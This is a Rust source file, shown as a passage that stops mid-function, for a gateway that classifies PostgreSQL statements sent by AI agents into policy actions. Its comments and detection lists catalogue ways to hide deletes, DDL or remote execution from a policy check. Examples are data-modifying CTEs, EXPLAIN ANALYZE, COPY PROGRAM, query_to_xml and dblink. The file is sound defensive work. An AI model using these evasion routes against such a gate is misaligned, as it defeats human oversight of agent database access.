//! SQL statement classification for blastgate's policy engine.
//!
//! Every query an agent sends to PostgreSQL is turned into one [`Statement`]
//! per SQL statement, and each carries a Cedar action (`sql:select`,
//! `sql:delete`, `sql:ddl`, ...) plus the facts policies are written against:
//! which tables are read or written, whether an UPDATE/DELETE is filtered,
//! which functions are called, whether a COPY runs a program.
//!
//! Parsing uses `pg_query`, i.e. the real Postgres grammar, so that what we
//! classify is what the server will execute; a hand-written tokenizer could
//! be fooled by comments, dollar quoting or nested statements.
//!
//! The classifier errs towards the more dangerous reading:
//! - anything it cannot parse or does not recognise is `sql:opaque`;
//! - a statement that hides a data change inside a CTE, a `COPY (...) TO`,
//!   an `EXPLAIN ANALYZE` or a `PREPARE` takes the action of that change;
//! - in DDL and DCL statements, every table named outside a query counts as
//!   written (a foreign key, `INHERITS` or `GRANT ... ON t` alters `t`'s
//!   catalog entries too).
//!
//! What it cannot see: the bodies of `DO` blocks and function definitions
//! (they are strings to the parser), what an `EXECUTE`d prepared statement
//! does, and the side effects of the functions a query calls; that is why
//! those statements are opaque and why [`Statement::functions`] exists.

use std::collections::{BTreeSet, HashMap, VecDeque};
use std::sync::{Arc, Mutex};

use pg_query::protobuf;
use pg_query::NodeEnum;
use serde_json::{Map, Value};

/// Cedar action for reads (`SELECT`, `VALUES`, `TABLE`, cursors over them).
pub const ACTION_SELECT: &str = "sql:select";
/// Cedar action for row inserts.
pub const ACTION_INSERT: &str = "sql:insert";
/// Cedar action for row updates (and `MERGE`).
pub const ACTION_UPDATE: &str = "sql:update";
/// Cedar action for row deletes.
pub const ACTION_DELETE: &str = "sql:delete";
/// Cedar action for schema changes and maintenance (`CREATE`, `DROP`, `TRUNCATE`, `VACUUM`, ...).
pub const ACTION_DDL: &str = "sql:ddl";
/// Cedar action for privilege changes (`GRANT`, roles, `SET ROLE`).
pub const ACTION_DCL: &str = "sql:dcl";
/// Cedar action for `COPY`.
pub const ACTION_COPY: &str = "sql:copy";
/// Cedar action for session state (`SET`, `SHOW`, `LISTEN`, cursors, ...).
pub const ACTION_SESSION: &str = "sql:session";
/// Cedar action for transaction control.
pub const ACTION_TRANSACTION: &str = "sql:transaction";
/// Cedar action for anything whose effect cannot be known from its text.
pub const ACTION_OPAQUE: &str = "sql:opaque";

/// Command given to a query string that Postgres' parser rejects.
pub const COMMAND_UNPARSABLE: &str = "UNPARSABLE";

/// One statement of a query string, classified for policy.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Statement {
    /// Cedar action: one of "sql:select", "sql:insert", "sql:update", "sql:delete", "sql:ddl", "sql:dcl",
    /// "sql:copy", "sql:session", "sql:transaction", "sql:opaque"
    pub action: &'static str,
    /// Statement tag as Postgres names it, upper case: "SELECT", "INSERT", "UPDATE", "DELETE",
    /// "DROP DATABASE", "DROP TABLE", "TRUNCATE", "CREATE TABLE", "ALTER TABLE", "GRANT", "REVOKE",
    /// "COPY", "SET", "SHOW", "RESET", "BEGIN", "COMMIT", "ROLLBACK", "DO", "CALL", "EXECUTE", "PREPARE", "LISTEN", "NOTIFY", ...
    pub command: String,
    /// The statement's own text (the slice of the original query string for this statement, trimmed).
    pub text: String,
    /// Tables read / written, schema-qualified when written so in the SQL ("public.orders"), else bare ("orders"); sorted, deduplicated.
    pub tables_read: Vec<String>,
    pub tables_written: Vec<String>,
    /// UPDATE/DELETE: is there a WHERE clause? (false for other statements)
    pub has_where: bool,
    /// Function names called anywhere in the statement (lower case, bare name without schema), sorted, dedup.
    pub functions: Vec<String>,
    /// COPY ... PROGRAM
    pub copy_program: bool,
    /// COPY direction when command == "COPY": Some(CopyDirection::From) for COPY FROM (writes table), Some(To) for COPY TO.
    pub copy_direction: Option<CopyDirection>,
    /// A built-in that runs SQL text (`query_to_xml`, `ts_stat`, `dblink`,
    /// …) gets text that is not a constant, or runs it on another server:
    /// what it does cannot be known from the statement.
    pub dynamic_sql: bool,
    /// The command the server's CommandComplete will name, when `command`
    /// is instead that of SQL text the statement runs (a `SELECT` of
    /// `query_to_xml('DROP …')` is decided as the DROP).
    pub tagged_as: Option<String>,
    /// Operators used (`+`, `###`): a user-defined operator runs a
    /// user-defined function.
    pub operators: Vec<String>,
    /// Types cast to: a user-defined cast, or a domain's CHECK, runs a
    /// function.
    pub cast_types: Vec<String>,
    /// The last name of qualified column references (`o.total`): with
    /// attribute notation it may be a function of the row (`o.purge`).
    pub attributes: Vec<String>,
    /// PREPARE and DEALLOCATE: the prepared statement they name (`None`
    /// for DEALLOCATE ALL); DECLARE: the cursor (a portal). SQL and
    /// protocol statements and portals share their namespaces.
    pub prepared_name: Option<String>,
}

/// How the server will lex the text: the session settings that change
/// what the same characters mean.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Lexing {
    /// `standard_conforming_strings`: off makes `\` an escape in `'...'`.
    pub standard_conforming_strings: bool,
}

impl Default for Lexing {
    fn default() -> Lexing {
        Lexing {
            standard_conforming_strings: true,
        }
    }
}

impl Lexing {
    fn options(self) -> pg_query::ParserOptions {
        if self.standard_conforming_strings {
            pg_query::ParserOptions::DEFAULT
        } else {
            pg_query::ParserOptions::DISABLE_STANDARD_CONFORMING_STRINGS
        }
    }
}

/// Which way a `COPY` moves data.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
pub enum CopyDirection {
    /// `COPY ... FROM`: rows flow into the table.
    From,
    /// `COPY ... TO`: rows flow out of the table or query.
    To,
}

/// Classifies every statement of a (possibly multi-statement) query string.
/// Never fails: a string that does not parse yields a single Statement with action "sql:opaque",
/// command "UNPARSABLE", text = the whole input.
///
/// A parse error anywhere makes the whole string unparsable, which matches the
/// server: it parses a simple-query string completely before running any of it.
pub fn classify(sql: &str) -> Vec<Statement> {
    classify_as(sql, Lexing::default())
}

/// [`classify`] under the session's lexing settings.
pub fn classify_as(sql: &str, lexing: Lexing) -> Vec<Statement> {
    classify_nested(sql, lexing, 0)
}

/// SQL text nested in SQL text (`query_to_xml('DELETE …')`) is classified
/// too, this many levels deep; deeper nesting is dynamic SQL.
const MAX_NESTING: usize = 4;

fn classify_nested(sql: &str, lexing: Lexing, depth: usize) -> Vec<Statement> {
    // pg_query post-processes the tree in Rust with code that can panic on
    // shapes it does not expect; untrusted input must not take the proxy down.
    let parsed = match std::panic::catch_unwind(|| pg_query::parse(sql, lexing.options())) {
        Ok(Ok(parsed)) => parsed,
        _ => return vec![opaque(COMMAND_UNPARSABLE, sql.trim())],
    };
    parsed
        .protobuf
        .stmts
        .iter()
        .map(|raw| classify_raw(sql, raw, lexing, depth))
        .collect()
}

/// A fingerprint usable as a cache key for classification (pg_query::fingerprint's hex);
/// None when it does not parse.
///
/// Postgres 18 style fingerprints ignore schema names, replace relation names
/// by their aliases and drop digit runs from relation names, so that
/// `DELETE FROM secret.t x` and `DELETE FROM public.y x` would collide; the
/// options used here keep the full, schema-qualified relation names. Literal
/// values are still ignored, so two strings with one fingerprint can differ
/// in their text.
pub fn fingerprint(sql: &str) -> Option<String> {
    let options = pg_query::FingerprintOptions::RANGEVAR_IGNORE_ALIASES
        | pg_query::FingerprintOptions::RANGEVAR_INCLUDE_SCHEMA
        | pg_query::FingerprintOptions::FULL_RELNAME;
    std::panic::catch_unwind(|| pg_query::fingerprint(sql, 0, options))
        .ok()?
        .ok()
        .map(|f| f.hex)
}

/// Query strings longer than this are classified but not cached, so that the
/// cache's memory stays bounded by `capacity * MAX_CACHED_QUERY_BYTES`.
pub const MAX_CACHED_QUERY_BYTES: usize = 64 * 1024;

/// A bounded cache in front of [`classify`]; agents repeat the same queries a lot.
///
/// It is keyed by the exact query text, not by [`fingerprint`]: fingerprints
/// ignore literals, so two strings with one fingerprint may differ in what
/// [`Statement::text`] must report, and a key that loses information could
/// hand back the classification of a different query.
/// When full, the oldest entry is evicted.
pub struct Classifier {
    capacity: usize,
    cache: Mutex<Cache>,
}

#[derive(Default)]
struct Cache {
    entries: HashMap<String, Arc<Vec<Statement>>>,
    order: VecDeque<String>,
    /// Single statements by their shape ([`super::shape::key`]: literals
    /// blanked): classification does not depend on literal values, and the
    /// key costs one scan of the text instead of a parse and tree walk, so
    /// `... WHERE id = 1` and `... WHERE id = 2` share one classification.
    shapes: HashMap<String, Arc<Vec<Statement>>>,
}

/// The text a single statement gets from [`classify`], for the forms the
/// shape cache serves: no leading comment, one statement.
fn single_text(sql: &str) -> Option<String> {
    let t = sql.trim();
    if t.starts_with("/*") || t.starts_with("--") || t.contains(';') && !t.ends_with(';') {
        return None;
    }
    Some(t.trim_end_matches(';').trim_end().to_string())
}

impl Classifier {
    /// A classifier caching at most `capacity` query strings (0 disables caching).
    pub fn new(capacity: usize) -> Self {
        Self {
            capacity,
            cache: Mutex::new(Cache::default()),
        }
    }

    /// [`classify`], answered from the cache when the same text was seen before.
    pub fn classify(&self, sql: &str) -> Arc<Vec<Statement>> {
        self.classify_as(sql, Lexing::default())
    }

    /// [`classify_as`] through the cache. The cache holds classifications
    /// under the default lexing only: a session with
    /// `standard_conforming_strings = off` is rare and gets a fresh parse.
    pub fn classify_as(&self, sql: &str, lexing: Lexing) -> Arc<Vec<Statement>> {
        if lexing != Lexing::default() {
            return Arc::new(classify_as(sql, lexing));
        }
        let cacheable = self.capacity > 0 && sql.len() <= MAX_CACHED_QUERY_BYTES;
        if cacheable {
            if let Some(hit) = self.lock().entries.get(sql) {
                return Arc::clone(hit);
            }
        }
        let shape = if cacheable {
            single_text(sql).and_then(|text| Some((super::shape::key(sql)?, text)))
        } else {
            None
        };
        if let Some((key, text)) = &shape {
            let hit = self.lock().shapes.get(key).cloned();
            if let Some(hit) = hit {
                if let [one] = hit.as_slice() {
                    let mut st = one.clone();
                    st.text = text.clone();
                    return Arc::new(vec![st]);
                }
            }
        }
        // Parse outside the lock so one slow query does not stall every connection.
        let fresh = Arc::new(classify(sql));
        if !cacheable {
            return fresh;
        }
        let mut cache = self.lock();
        if let Some((key, text)) = shape {
            if let [one] = fresh.as_slice() {
                // Only shapes whose text the fast path reproduces exactly,
                // and whose reading does not depend on a literal (the
                // setting set_config changes, SQL text a built-in runs).
                if one.text == text
                    && one.action != ACTION_OPAQUE
                    && !one.functions.iter().any(|f| reads_literals(f))
                {
                    if cache.shapes.len() >= self.capacity {
                        cache.shapes.clear();
                    }
                    cache.shapes.insert(key, Arc::clone(&fresh));
                }
            }
        }
        if let Some(raced) = cache.entries.get(sql) {
            return Arc::clone(raced);
        }
        while cache.entries.len() >= self.capacity {
            match cache.order.pop_front() {
                Some(oldest) => {
                    cache.entries.remove(&oldest);
                }
                None => {
                    cache.entries.clear();
                    break;
                }
            }
        }
        cache.entries.insert(sql.to_owned(), Arc::clone(&fresh));
        cache.order.push_back(sql.to_owned());
        fresh
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, Cache> {
        // The cache holds no invariant a panicking thread could break halfway
        // that matters more than staying available.
        self.cache.lock().unwrap_or_else(|e| e.into_inner())
    }
}

fn opaque(command: &str, text: &str) -> Statement {
    Statement {
        action: ACTION_OPAQUE,
        command: command.to_owned(),
        text: text.to_owned(),
        tables_read: Vec::new(),
        tables_written: Vec::new(),
        has_where: false,
        functions: Vec::new(),
        copy_program: false,
        copy_direction: None,
        dynamic_sql: false,
        tagged_as: None,
        operators: Vec::new(),
        cast_types: Vec::new(),
        attributes: Vec::new(),
        prepared_name: None,
    }
}

/// A statement the gateway has no text for (a fast-path call, an Execute
/// of something prepared outside the protocol): opaque, and whatever it
/// runs counts as dynamic SQL.
pub fn unseen(command: &str, text: &str) -> Statement {
    Statement {
        dynamic_sql: true,
        ..opaque(command, text)
    }
}

/// The statement's own slice of the query string; offsets are bytes, and a
/// length of 0 means "to the end" (the last statement without a semicolon).
fn statement_text<'a>(sql: &'a str, raw: &protobuf::RawStmt) -> &'a str {
    let Ok(start) = usize::try_from(raw.stmt_location) else {
        return sql.trim();
    };
    let end = match usize::try_from(raw.stmt_len) {
        Ok(0) | Err(_) => sql.len(),
        Ok(len) => start.saturating_add(len).min(sql.len()),
    };
    sql.get(start..end).unwrap_or(sql).trim()
}

fn classify_raw(sql: &str, raw: &protobuf::RawStmt, lexing: Lexing, depth: usize) -> Statement {
    let text = statement_text(sql, raw);
    let Some(node) = raw.stmt.as_deref() else {
        return opaque("UNKNOWN", text);
    };
    let Some(kind) = node.node.as_ref() else {
        return opaque("UNKNOWN", text);
    };
    // The generic walk below runs over the serde form of the tree because it
    // reaches every field of every one of Postgres' ~270 node types, where a
    // typed walk would have to be kept in step with the grammar by hand.
    let Ok(tree) = serde_json::to_value(node) else {
        return opaque("UNKNOWN", text);
    };

    let desc = describe(kind);
    let mut found = Found::default();
    walk(&tree, desc.mode, &[], &mut found);
    found.written.extend(desc.extra_written);
    // SQL text handed to built-ins that run it: what it does is what this
    // statement does.
    let mut nested: Option<(&'static str, String)> = None;
    for inner in std::mem::take(&mut found.nested_sql) {
        if depth >= MAX_NESTING {
            found.dynamic_sql = true;
            continue;
        }
        // The server lexes the text when it runs, under the settings of
        // that moment, which the statement itself can change: text with a
        // backslash is read both ways (a reading the server would reject
        // runs nothing), and both readings count.
        let readings: Vec<Lexing> = if inner.contains('\\') {
            vec![
                Lexing::default(),
                Lexing {
                    standard_conforming_strings: false,
                },
            ]
        } else {
            vec![lexing]
        };
        let several = readings.len() > 1;
        let mut read_any = false;
        let mut statements = Vec::new();
        for lx in readings {
            let parsed = classify_nested(&inner, lx, depth + 1);
            if several && parsed.iter().any(|s| s.command == COMMAND_UNPARSABLE) {
                continue;
            }
            read_any = true;
            statements.extend(parsed);
        }
        if !read_any {
            found.dynamic_sql = true;
        }
        for st in statements {
            found.read.extend(st.tables_read);
            found.written.extend(st.tables_written);
            found.functions.extend(st.functions);
            found.dynamic_sql |= st.dynamic_sql;
            let so_far = nested.as_ref().map_or(ACTION_SELECT, |(a, _)| *a);
            if stronger(so_far, st.action) != so_far || nested.is_none() {
                nested = Some((st.action, st.command));
            }
        }
    }

    let mut action = desc.action;
    let mut command = desc.command;
    if found.privilege && action != ACTION_OPAQUE {
        action = ACTION_DCL;
    }
    if matches!(
        action,
        ACTION_SELECT | ACTION_INSERT | ACTION_UPDATE | ACTION_DELETE | ACTION_COPY
    ) {
        // Data-modifying CTEs (and COPY (DELETE ... RETURNING) TO) change rows
        // whatever the outer statement is called.
        if found.delete {
            action = ACTION_DELETE;
        } else if found.update {
            action = ACTION_UPDATE;
        } else if found.insert {
            action = ACTION_INSERT;
        } else if found.select_into && action == ACTION_SELECT {
            action = ACTION_DDL;
            if command == "SELECT" {
                command = "SELECT INTO".to_owned();
            }
        }
    }
    let mut tagged_as = None;
    if let Some((inner, inner_command)) = nested {
        if stronger(action, inner) != action {
            action = inner;
            tagged_as = Some(std::mem::replace(&mut command, inner_command));
        }
    }
    let has_where = matches!(action, ACTION_UPDATE | ACTION_DELETE)
        && found.modifications > 0
        && !found.unfiltered;

    Statement {
        action,
        command,
        text: text.to_owned(),
        tables_read: found.read.into_iter().collect(),
        tables_written: found.written.into_iter().collect(),
        has_where,
        functions: found.functions.into_iter().collect(),
        copy_program: desc.copy_program,
        copy_direction: desc.copy_direction,
        dynamic_sql: found.dynamic_sql,
        tagged_as,
        operators: found.operators.into_iter().collect(),
        cast_types: found.cast_types.into_iter().collect(),
        attributes: found.attributes.into_iter().collect(),
        prepared_name: prepared_name(kind),
    }
}

fn prepared_name(kind: &NodeEnum) -> Option<String> {
    match kind {
        NodeEnum::PrepareStmt(s) => Some(s.name.clone()),
        NodeEnum::DeallocateStmt(s) if !s.isall => Some(s.name.clone()),
        NodeEnum::DeclareCursorStmt(s) => Some(s.portalname.clone()),
        _ => None,
    }
}

/// The more dangerous of two actions, for a statement that does both
/// (a SELECT whose nested SQL deletes is a delete).
fn stronger(a: &'static str, b: &'static str) -> &'static str {
    const ORDER: [&str; 10] = [
        ACTION_SESSION,
        ACTION_TRANSACTION,
        ACTION_SELECT,
        ACTION_COPY,
        ACTION_INSERT,
        ACTION_UPDATE,
        ACTION_DELETE,
        ACTION_DDL,
        ACTION_DCL,
        ACTION_OPAQUE,
    ];
    let rank = |x: &str| ORDER.iter().position(|o| *o == x).unwrap_or(ORDER.len());
    if rank(b) > rank(a) {
        b
    } else {
        a
    }
}

/// Built-ins that run SQL text, and which argument holds it: the text is
/// classified when it is a constant, and makes the statement dynamic
/// otherwise.
const SQL_RUNNING: &[(&str, usize)] = &[
    ("query_to_xml", 0),
    ("query_to_xmlschema", 0),
    ("query_to_xml_and_xmlschema", 0),
    ("ts_stat", 0),
];

/// A table named in text (a `regclass` argument) as the server reads it:
/// unquoted parts folded to lower case, quoted ones kept.
fn regclass_name(text: &str) -> String {
    text.split('.')
        .map(|part| {
            let part = part.trim();
            match part.strip_prefix('"').and_then(|p| p.strip_suffix('"')) {
                Some(quoted) => quoted.replace("\"\"", "\""),
                None => part.to_lowercase(),
            }
        })
        .collect::<Vec<_>>()
        .join(".")
}

/// Whether a call's classification depends on its literal arguments.
fn reads_literals(function: &str) -> bool {
    function == "set_config"
        || function == "ts_rewrite"
        || function.starts_with("dblink")
        || SQL_RUNNING.iter().any(|(n, _)| *n == function)
        || TABLE_READING.contains(&function)
}

/// Built-ins that read a whole table, schema or database named by a
/// string: constant names are reads of those tables; anything else is
/// dynamic.
const TABLE_READING: &[&str] = &[
    "table_to_xml",
    "table_to_xmlschema",
    "table_to_xml_and_xmlschema",
    "schema_to_xml",
    "schema_to_xmlschema",
    "schema_to_xml_and_xmlschema",
    "database_to_xml",
    "database_to_xmlschema",
    "database_to_xml_and_xmlschema",
];

/// Whether a table named outside any query belongs to the written set.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    Read,
    Write,
}

/// What the top-level node alone says about a statement.
struct Desc {
    action: &'static str,
    command: String,
    mode: Mode,
    copy_program: bool,
    copy_direction: Option<CopyDirection>,
    /// Tables that DROP/COMMENT name as plain string lists, not RangeVars.
    extra_written: Vec<String>,
}

impl Desc {
    fn new(action: &'static str, command: impl Into<String>) -> Self {
        // DDL and DCL name the objects they change; everything else only
        // writes what its DML nodes target.
        let mode = if matches!(action, ACTION_DDL | ACTION_DCL) {
            Mode::Write
        } else {
            Mode::Read
        };
        Self {
            action,
            command: command.into(),
            mode,
            copy_program: false,
            copy_direction: None,
            extra_written: Vec::new(),
        }
    }

    fn mode(mut self, mode: Mode) -> Self {
        self.mode = mode;
        self
    }
}

fn describe_inner(query: Option<&protobuf::Node>) -> Desc {
    match query.and_then(|n| n.node.as_ref()) {
        Some(inner) => describe(inner),
        None => Desc::new(ACTION_OPAQUE, "UNKNOWN"),
    }
}

fn describe(node: &NodeEnum) -> Desc {
    use protobuf::ObjectType as O;
    use ACTION_DCL as DCL;
    use ACTION_DDL as DDL;
    use ACTION_OPAQUE as OPAQUE;
    use ACTION_SESSION as SESSION;
    use ACTION_TRANSACTION as TX;

    match node {
        NodeEnum::SelectStmt(_) => Desc::new(ACTION_SELECT, "SELECT"),
        NodeEnum::InsertStmt(_) => Desc::new(ACTION_INSERT, "INSERT"),
        NodeEnum::UpdateStmt(_) => Desc::new(ACTION_UPDATE, "UPDATE"),
        NodeEnum::DeleteStmt(_) => Desc::new(ACTION_DELETE, "DELETE"),
        NodeEnum::MergeStmt(_) => Desc::new(ACTION_UPDATE, "MERGE"),
        NodeEnum::CopyStmt(s) => {
            let mut d = Desc::new(ACTION_COPY, "COPY");
            d.copy_program = s.is_program;
            d.copy_direction = Some(if s.is_from {
                CopyDirection::From
            } else {
                CopyDirection::To
            });
            d
        }

        // EXPLAIN ANALYZE runs its statement, so it is judged as that statement.
        NodeEnum::ExplainStmt(s) => describe_inner(s.query.as_deref()),
        NodeEnum::DeclareCursorStmt(s) => {
            let mut d = describe_inner(s.query.as_deref());
            d.command = "DECLARE CURSOR".to_owned();
            d
        }
        // PREPARE runs nothing, but judging it by its body lets a policy stop
        // the statement before it becomes an invisible EXECUTE.
        NodeEnum::PrepareStmt(s) => {
            let mut d = describe_inner(s.query.as_deref());
            d.command = "PREPARE".to_owned();
            d
        }

        NodeEnum::CreateTableAsStmt(s) => {
            let command = if s.is_select_into {
                "SELECT INTO"
            } else if object_type(s.objtype) == Some(O::ObjectMatview) {
                "CREATE MATERIALIZED VIEW"
            } else {
                "CREATE TABLE AS"
            };
            Desc::new(DDL, command)
        }
        NodeEnum::DropStmt(s) => {
            let kind = object_type(s.remove_type);
            let mut d = Desc::new(DDL, prefixed("DROP", kind));
            d.extra_written = s
                .objects
                .iter()
                .filter_map(|o| dropped_table(kind, o))
                .collect();
            d
        }
        NodeEnum::CommentStmt(s) => {
            let kind = object_type(s.objtype);
            let mut d = Desc::new(DDL, "COMMENT");
            d.extra_written = s
                .object
                .as_deref()
                .and_then(|o| dropped_table(kind, o))
                .into_iter()
                .collect();
            d
        }
        NodeEnum::DropdbStmt(_) => Desc::new(DDL, "DROP DATABASE"),
        NodeEnum::TruncateStmt(_) => Desc::new(DDL, "TRUNCATE"),
        NodeEnum::CreateStmt(_) => Desc::new(DDL, "CREATE TABLE"),
        NodeEnum::CreateForeignTableStmt(_) => Desc::new(DDL, "CREATE FOREIGN TABLE"),
        NodeEnum::AlterTableStmt(s) => Desc::new(DDL, prefixed("ALTER", object_type(s.objtype))),
        NodeEnum::AlterTableMoveAllStmt(s) => {
            Desc::new(DDL, prefixed("ALTER", object_type(s.objtype)))
        }
        NodeEnum::IndexStmt(_) => Desc::new(DDL, "CREATE INDEX"),
        NodeEnum::ViewStmt(_) => Desc::new(DDL, "CREATE VIEW"),
        NodeEnum::CreateSchemaStmt(_) => Desc::new(DDL, "CREATE SCHEMA"),
        NodeEnum::CreateSeqStmt(_) => Desc::new(DDL, "CREATE SEQUENCE"),
        NodeEnum::AlterSeqStmt(_) => Desc::new(DDL, "ALTER SEQUENCE"),
        NodeEnum::CreateFunctionStmt(s) => Desc::new(
            DDL,
            if s.is_procedure {
                "CREATE PROCEDURE"
            } else {
                "CREATE FUNCTION"
            },
        ),
        NodeEnum::AlterFunctionStmt(s) => Desc::new(DDL, prefixed("ALTER", object_type(s.objtype))),
        NodeEnum::CreateTrigStmt(_) => Desc::new(DDL, "CREATE TRIGGER"),
        NodeEnum::CreateEventTrigStmt(_) => Desc::new(DDL, "CREATE EVENT TRIGGER"),
        NodeEnum::AlterEventTrigStmt(_) => Desc::new(DDL, "ALTER EVENT TRIGGER"),
        NodeEnum::RuleStmt(_) => Desc::new(DDL, "CREATE RULE"),
        NodeEnum::CreatedbStmt(_) => Desc::new(DDL, "CREATE DATABASE"),
        NodeEnum::AlterDatabaseStmt(_)
        | NodeEnum::AlterDatabaseSetStmt(_)
        | NodeEnum::AlterDatabaseRefreshCollStmt(_) => Desc::new(DDL, "ALTER DATABASE"),
        NodeEnum::CreateExtensionStmt(_) => Desc::new(DDL, "CREATE EXTENSION"),
        NodeEnum::AlterExtensionStmt(_) | NodeEnum::AlterExtensionContentsStmt(_) => {
            Desc::new(DDL, "ALTER EXTENSION")
        }
        NodeEnum::CreateDomainStmt(_) => Desc::new(DDL, "CREATE DOMAIN"),
        NodeEnum::AlterDomainStmt(_) => Desc::new(DDL, "ALTER DOMAIN"),
        NodeEnum::DefineStmt(s) => Desc::new(DDL, prefixed("CREATE", object_type(s.kind))),
        NodeEnum::CompositeTypeStmt(_)
        | NodeEnum::CreateEnumStmt(_)
        | NodeEnum::CreateRangeStmt(_) => Desc::new(DDL, "CREATE TYPE"),
        NodeEnum::AlterEnumStmt(_) | NodeEnum::AlterTypeStmt(_) => Desc::new(DDL, "ALTER TYPE"),
        NodeEnum::RenameStmt(s) => Desc::new(DDL, prefixed("ALTER", object_type(s.rename_type))),
        NodeEnum::AlterObjectSchemaStmt(s) => {
            Desc::new(DDL, prefixed("ALTER", object_type(s.object_type)))
        }
        NodeEnum::AlterOwnerStmt(s) => {
            Desc::new(DDL, prefixed("ALTER", object_type(s.object_type)))
        }
        NodeEnum::AlterObjectDependsStmt(s) => {
            Desc::new(DDL, prefixed("ALTER", object_type(s.object_type)))
        }
        NodeEnum::SecLabelStmt(_) => Desc::new(DDL, "SECURITY LABEL"),
        NodeEnum::ClusterStmt(_) => Desc::new(DDL, "CLUSTER"),
        NodeEnum::VacuumStmt(s) => {
            Desc::new(DDL, if s.is_vacuumcmd { "VACUUM" } else { "ANALYZE" })
        }
        NodeEnum::ReindexStmt(_) => Desc::new(DDL, "REINDEX"),
        NodeEnum::RefreshMatViewStmt(_) => Desc::new(DDL, "REFRESH MATERIALIZED VIEW"),
        NodeEnum::CreatePlangStmt(_) => Desc::new(DDL, "CREATE LANGUAGE"),
        NodeEnum::CreateCastStmt(_) => Desc::new(DDL, "CREATE CAST"),
        NodeEnum::CreateConversionStmt(_) => Desc::new(DDL, "CREATE CONVERSION"),
        NodeEnum::CreateOpClassStmt(_) => Desc::new(DDL, "CREATE OPERATOR CLASS"),
        NodeEnum::CreateOpFamilyStmt(_) => Desc::new(DDL, "CREATE OPERATOR FAMILY"),
        NodeEnum::AlterOpFamilyStmt(_) => Desc::new(DDL, "ALTER OPERATOR FAMILY"),
        NodeEnum::AlterOperatorStmt(_) => Desc::new(DDL, "ALTER OPERATOR"),
        NodeEnum::CreateStatsStmt(_) => Desc::new(DDL, "CREATE STATISTICS"),
        NodeEnum::AlterStatsStmt(_) => Desc::new(DDL, "ALTER STATISTICS"),
        NodeEnum::AlterCollationStmt(_) => Desc::new(DDL, "ALTER COLLATION"),
        NodeEnum::CreateTableSpaceStmt(_) => Desc::new(DDL, "CREATE TABLESPACE"),
        NodeEnum::DropTableSpaceStmt(_) => Desc::new(DDL, "DROP TABLESPACE"),
        NodeEnum::AlterTableSpaceOptionsStmt(_) => Desc::new(DDL, "ALTER TABLESPACE"),
        NodeEnum::CreateFdwStmt(_) => Desc::new(DDL, "CREATE FOREIGN DATA WRAPPER"),
        NodeEnum::AlterFdwStmt(_) => Desc::new(DDL, "ALTER FOREIGN DATA WRAPPER"),
        NodeEnum::CreateForeignServerStmt(_) => Desc::new(DDL, "CREATE SERVER"),
        NodeEnum::AlterForeignServerStmt(_) => Desc::new(DDL, "ALTER SERVER"),
        NodeEnum::ImportForeignSchemaStmt(_) => Desc::new(DDL, "IMPORT FOREIGN SCHEMA"),
        NodeEnum::CreatePolicyStmt(_) => Desc::new(DDL, "CREATE POLICY"),
        NodeEnum::AlterPolicyStmt(_) => Desc::new(DDL, "ALTER POLICY"),
        NodeEnum::CreateAmStmt(_) => Desc::new(DDL, "CREATE ACCESS METHOD"),
        NodeEnum::CreateTransformStmt(_) => Desc::new(DDL, "CREATE TRANSFORM"),
        NodeEnum::CreatePublicationStmt(_) => Desc::new(DDL, "CREATE PUBLICATION"),
        NodeEnum::AlterPublicationStmt(_) => Desc::new(DDL, "ALTER PUBLICATION"),
        NodeEnum::CreateSubscriptionStmt(_) => Desc::new(DDL, "CREATE SUBSCRIPTION"),
        NodeEnum::AlterSubscriptionStmt(_) => Desc::new(DDL, "ALTER SUBSCRIPTION"),
        NodeEnum::DropSubscriptionStmt(_) => Desc::new(DDL, "DROP SUBSCRIPTION"),
        NodeEnum::AlterTsdictionaryStmt(_) => Desc::new(DDL, "ALTER TEXT SEARCH DICTIONARY"),
        NodeEnum::AlterTsconfigurationStmt(_) => Desc::new(DDL, "ALTER TEXT SEARCH CONFIGURATION"),
        NodeEnum::DropOwnedStmt(_) => Desc::new(DDL, "DROP OWNED"),

        NodeEnum::GrantStmt(s) => Desc::new(DCL, if s.is_grant { "GRANT" } else { "REVOKE" }),
        NodeEnum::GrantRoleStmt(s) => Desc::new(
            DCL,
            if s.is_grant {
                "GRANT ROLE"
            } else {
                "REVOKE ROLE"
            },
        ),
        NodeEnum::AlterDefaultPrivilegesStmt(_) => Desc::new(DCL, "ALTER DEFAULT PRIVILEGES"),
        NodeEnum::CreateRoleStmt(s) => {
            let command = match protobuf::RoleStmtType::try_from(s.stmt_type) {
                Ok(protobuf::RoleStmtType::RolestmtUser) => "CREATE USER",
                Ok(protobuf::RoleStmtType::RolestmtGroup) => "CREATE GROUP",
                _ => "CREATE ROLE",
            };
            Desc::new(DCL, command)
        }
        NodeEnum::AlterRoleStmt(_) | NodeEnum::AlterRoleSetStmt(_) => Desc::new(DCL, "ALTER ROLE"),
        NodeEnum::DropRoleStmt(_) => Desc::new(DCL, "DROP ROLE"),
        NodeEnum::ReassignOwnedStmt(_) => Desc::new(DCL, "REASSIGN OWNED"),
        // User mappings hold the credentials used on foreign servers.
        NodeEnum::CreateUserMappingStmt(_) => Desc::new(DCL, "CREATE USER MAPPING"),
        NodeEnum::AlterUserMappingStmt(_) => Desc::new(DCL, "ALTER USER MAPPING"),
        NodeEnum::DropUserMappingStmt(_) => Desc::new(DCL, "DROP USER MAPPING"),

        NodeEnum::VariableSetStmt(s) => {
            let reset = matches!(
                protobuf::VariableSetKind::try_from(s.kind),
                Ok(protobuf::VariableSetKind::VarReset | protobuf::VariableSetKind::VarResetAll)
            );
            let command = if reset { "RESET" } else { "SET" };
            // GUC names are case-insensitive; SET ROLE and SET SESSION
            // AUTHORIZATION change the privileges of everything that follows.
            let privilege = ["role", "session_authorization"]
                .iter()
                .any(|guc| s.name.eq_ignore_ascii_case(guc));
            Desc::new(if privilege { DCL } else { SESSION }, command).mode(Mode::Read)
        }
        NodeEnum::VariableShowStmt(_) => Desc::new(SESSION, "SHOW"),
        NodeEnum::DiscardStmt(s) => {
            let command = match protobuf::DiscardMode::try_from(s.target) {
                Ok(protobuf::DiscardMode::DiscardPlans) => "DISCARD PLANS",
                Ok(protobuf::DiscardMode::DiscardSequences) => "DISCARD SEQUENCES",
                Ok(protobuf::DiscardMode::DiscardTemp) => "DISCARD TEMP",
                _ => "DISCARD ALL",
            };
